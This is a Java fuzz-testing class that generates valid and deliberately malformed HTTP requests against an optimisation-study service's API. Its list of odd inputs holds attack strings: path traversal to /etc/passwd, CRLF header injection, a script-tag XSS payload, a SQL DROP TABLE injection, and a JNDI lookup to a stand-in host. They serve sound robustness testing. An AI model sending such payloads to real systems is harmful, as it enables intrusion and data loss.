package io.thalweg.service;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Makes requests from the description of the service: mostly right ones, and damaged ones. */
final class RequestMaker {

    /** Values of parameters that the study may have or not. */
    private static final String POINT = "{\"x\": 0.25, \"kind\": \"a\"}";

    static final String DEFINITION = """
            {"objectives": {"yield": "maximize"}, "parameters": {"x": {"range": [0, 1]}, "kind": ["a", "b"]},
             "initial-design": 100000, "seed": 3}""";

    private static final List<String> ODD = List.of(
            "",
            " ",
            "null",
            "-1",
            "1e999",
            "9223372036854775808",
            "NaN",
            "..",
            "../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%00",
            "%",
            "%zz",
            "a%0d%0aX-Injected:%201",
            "\u00e9\u4e2d\ud83d\ude00",
            "\ud800",
            "<script>alert(1)</script>",
            "'; DROP TABLE thalweg_study; --",
            "${jndi:ldap://elsewhere.example/a}",
            "=1+1",
            "\u0000",
            "a".repeat(300));

    /** These take long; they are asked for rarely. */
    private static final Set<String> SLOW =
            Set.of("importance", "report", "figures", "figure", "recommend", "forecast", "front", "optuna", "python");

    private final Description description;
    private final Random random;
    private final List<Description.Operation> operations;

    RequestMaker(Description description, long seed) {
        this.description = description;
        this.random = new Random(seed);
        this.operations = description.operations();
    }

    /**
     * A request.
     *
     * @param method as it was sent
     * @param known whether it is well-formed, so that the connection can be used again
     */
    record Made(String method, String path, byte[] bytes, boolean known) {

        @Override
        public String toString() {
            String text = new String(bytes, StandardCharsets.UTF_8);
            return text.length() > 2000 ? text.substring(0, 2000) + "…" : text;
        }
    }

    /** The next one, about a study of this name and tag. */
    Made next(String study, String tag) {
        Description.Operation operation = any(operations);
        while (SLOW.contains(operation.id()) && random.nextInt(40) > 0) {
            operation = any(operations);
        }
        String path = operation
                .path()
                .replace("{study}", rarely() ? escaped(any(ODD)) : study)
                .replace("{number}", rarely() ? escaped(any(ODD)) : String.valueOf(random.nextInt(30)))
                .replace("{figure}", rarely() ? escaped(any(ODD)) : "progress.svg")
                .replace("{file}", rarely() ? escaped(any(ODD)) : "app.js");
        String target = path + query(operation);
        String method = rarely()
                ? any(List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "NONSENSE"))
                : operation.method();
        byte[] body = body(operation, study);
        StringBuilder head = new StringBuilder(method + " " + target + " HTTP/1.1\r\nHost: localhost\r\n");
        if (operation.id().equals("deleteStudy") && random.nextInt(4) > 0) {
            head.append("If-Match: ")
                    .append(random.nextBoolean() ? tag : "\"0123456789abcdef\"")
                    .append("\r\n");
        } else if (rarely()) {
            head.append("If-Match: ").append(header()).append("\r\n");
        }
        if (rarely()) {
            head.append(any(List.of(
                            "Accept",
                            "Origin",
                            "Cookie",
                            "Authorization",
                            "Content-Type",
                            "Last-Event-ID",
                            "traceparent",
                            "X-Forwarded-For",
                            "Sec-Fetch-Site",
                            "Content-Encoding",
                            "Expect",
                            "Range")))
                    .append(": ")
                    .append(header())
                    .append("\r\n");
        }
        head.append("Content-Length: ").append(body.length).append("\r\n\r\n");
        byte[] bytes = joined(head.toString().getBytes(StandardCharsets.ISO_8859_1), body);
        if (random.nextInt(10) == 0) {
            return new Made(method, path, damaged(bytes), false);
        }
        return new Made(method, path, bytes, true);
    }

    private boolean rarely() {
        return random.nextInt(12) == 0;
    }

    private <T> T any(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static String escaped(String text) {
        StringBuilder escaped = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            boolean plain = b > ' ' && b < 127 && "\"<>{}|\\^`#?".indexOf(b) < 0;
            escaped.append(plain ? String.valueOf((char) b) : String.format("%%%02x", b & 255));
        }
        return escaped.toString();
    }

    private String header() {
        return any(ODD).chars()
                .filter(c -> c >= ' ' && c < 127)
                .mapToObj(Character::toString)
                .collect(Collectors.joining());
    }

    private String query(Description.Operation operation) {
        List<String> parts = new ArrayList<>();
        if (operation.node().has("parameters")) {
            for (JsonNode reference : operation.node().get("parameters")) {
                JsonNode parameter = description.resolved(reference);
                if (parameter.get("in").stringValue().equals("query") && random.nextInt(3) == 0) {
                    String value = rarely()
                            ? any(ODD)
                            : made(parameter.get("schema"), 0).asString("");
                    parts.add(parameter.get("name").stringValue() + "=" + escaped(value));
                }
            }
        }
        if (rarely()) {
            parts.add("nonsense=" + escaped(any(ODD)));
        }
        return parts.isEmpty() ? "" : "?" + String.join("&", parts);
    }

    private byte[] body(Description.Operation operation, String study) {
        JsonNode body = operation.node().get("requestBody");
        if (body == null) {
            return rarely() ? any(ODD).getBytes(StandardCharsets.UTF_8) : new byte[0];
        }
        JsonNode json = body.get("content").get("application/json");
        String text;
        if (json == null) {
            text = "trial,x,kind,yield\n" + random.nextInt(30) + ",0.5,a," + random.nextInt(5) + "\n";
        } else {
            JsonNode made = made(json.get("schema"), 0);
            if (operation.id().equals("begin") && made instanceof ObjectNode object && random.nextInt(4) > 0) {
                object.put("name", study);
            }
            for (int i = random.nextInt(3); i > 0 && random.nextInt(3) == 0; i--) {
                change(made);
            }
            text = made.toString();
        }
        if (rarely() && !text.isEmpty()) {
            int at = random.nextInt(text.length());
            text = any(List.of(
                    text.substring(0, at),
                    text.substring(0, at) + any(ODD) + text.substring(at),
                    "[".repeat(random.nextInt(5000)) + text,
                    "\ufeff" + text,
                    text + text));
        }
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Something as a schema has it, or nearly. */
    private JsonNode made(JsonNode reference, int depth) {
        JsonNode schema = description.resolved(reference);
        if (reference.has("$ref") && reference.get("$ref").stringValue().endsWith("/Definition")) {
            return Json.MAPPER.readTree(DEFINITION);
        }
        if (reference.has("$ref") && reference.get("$ref").stringValue().endsWith("/Point")) {
            return Json.MAPPER.readTree(POINT.replace("0.25", String.valueOf(random.nextInt(5) / 4.0)));
        }
        if (schema.has("const")) {
            return schema.get("const");
        }
        if (schema.has("enum")) {
            return schema.get("enum").get(random.nextInt(schema.get("enum").size()));
        }
        if (schema.has("anyOf")) {
            return made(
                    schema.get("anyOf").get(random.nextInt(schema.get("anyOf").size())), depth + 1);
        }
        if (schema.has("allOf") || schema.has("properties")) {
            return object(schema, depth);
        }
        JsonNode type = schema.get("type");
        String name = type == null
                ? "string"
                : type.isArray() ? type.get(random.nextInt(type.size())).stringValue() : type.stringValue();
        return switch (name) {
            case "integer" -> Json.MAPPER.valueToTree(random.nextInt(4));
            case "number" -> Json.MAPPER.valueToTree(random.nextInt(100) / 8.0);
            case "boolean" -> Json.MAPPER.valueToTree(random.nextBoolean());
            case "array" -> array(schema, depth);
            case "object" -> Json.object();
            default -> Json.MAPPER.valueToTree(rarely() ? any(ODD) : "word" + random.nextInt(20));
        };
    }

    private JsonNode array(JsonNode schema, int depth) {
        ArrayNode array = Json.array();
        for (int i = random.nextInt(3); i >= 0 && depth < 6; i--) {
            array.add(made(schema.get("items"), depth + 1));
        }
        return array;
    }

    private ObjectNode object(JsonNode schema, int depth) {
        ObjectNode object = Json.object();
        if (schema.has("allOf")) {
            schema.get("allOf").forEach(part -> object.setAll(object(description.resolved(part), depth + 1)));
        }
        Set<String> required = schema.has("required")
                ? schema.get("required")
                        .valueStream()
                        .map(JsonNode::stringValue)
                        .collect(Collectors.toSet())
                : Set.of();
        if (schema.has("properties")) {
            schema.get("properties").properties().forEach(property -> {
                boolean wanted =
                        required.contains(property.getKey()) ? !(random.nextInt(30) == 0) : random.nextInt(5) == 0;
                if (wanted && !property.getValue().isBoolean()) {
                    object.set(property.getKey(), made(property.getValue(), depth + 1));
                }
            });
        }
        if (schema.has("oneOf") && random.nextInt(8) > 0) {
            List<String> choices = List.of("value", "failed", "stopped");
            object.remove(choices);
            String chosen = random.nextInt(4) > 0 ? "value" : any(choices);
            object.set(chosen, made(schema.get("properties").get(chosen), depth + 1));
        }
        return object;
    }

    /** Puts something odd somewhere. */
    private void change(JsonNode node) {
        if (node instanceof ObjectNode object && !object.isEmpty()) {
            String name = any(List.copyOf(object.propertyNames()));
            if (random.nextBoolean()) {
                change(object.get(name));
            } else {
                object.set(name, odd());
            }
        } else if (node instanceof ArrayNode array && !array.isEmpty()) {
            array.set(random.nextInt(array.size()), odd());
        }
    }

    private JsonNode odd() {
        return switch (random.nextInt(6)) {
            case 0 -> Json.MAPPER.nullNode();
            case 1 -> Json.array().add(1).add("two");
            case 2 -> Json.object().put("deep", 1);
            case 3 -> Json.MAPPER.valueToTree(any(List.of(-1.0, 1e308, 0.5, 1e18)));
            case 4 -> Json.MAPPER.valueToTree(Long.MIN_VALUE);
            default -> Json.MAPPER.valueToTree(any(ODD));
        };
    }

    private byte[] damaged(byte[] bytes) {
        byte[] damaged = bytes.clone();
        for (int i = random.nextInt(4); i >= 0; i--) {
            damaged[random.nextInt(Math.min(120, damaged.length))] = (byte) random.nextInt(256);
        }
        return damaged;
    }

    private static byte[] joined(byte[] head, byte[] body) {
        byte[] all = new byte[head.length + body.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(body, 0, all, head.length, body.length);
        return all;
    }
}
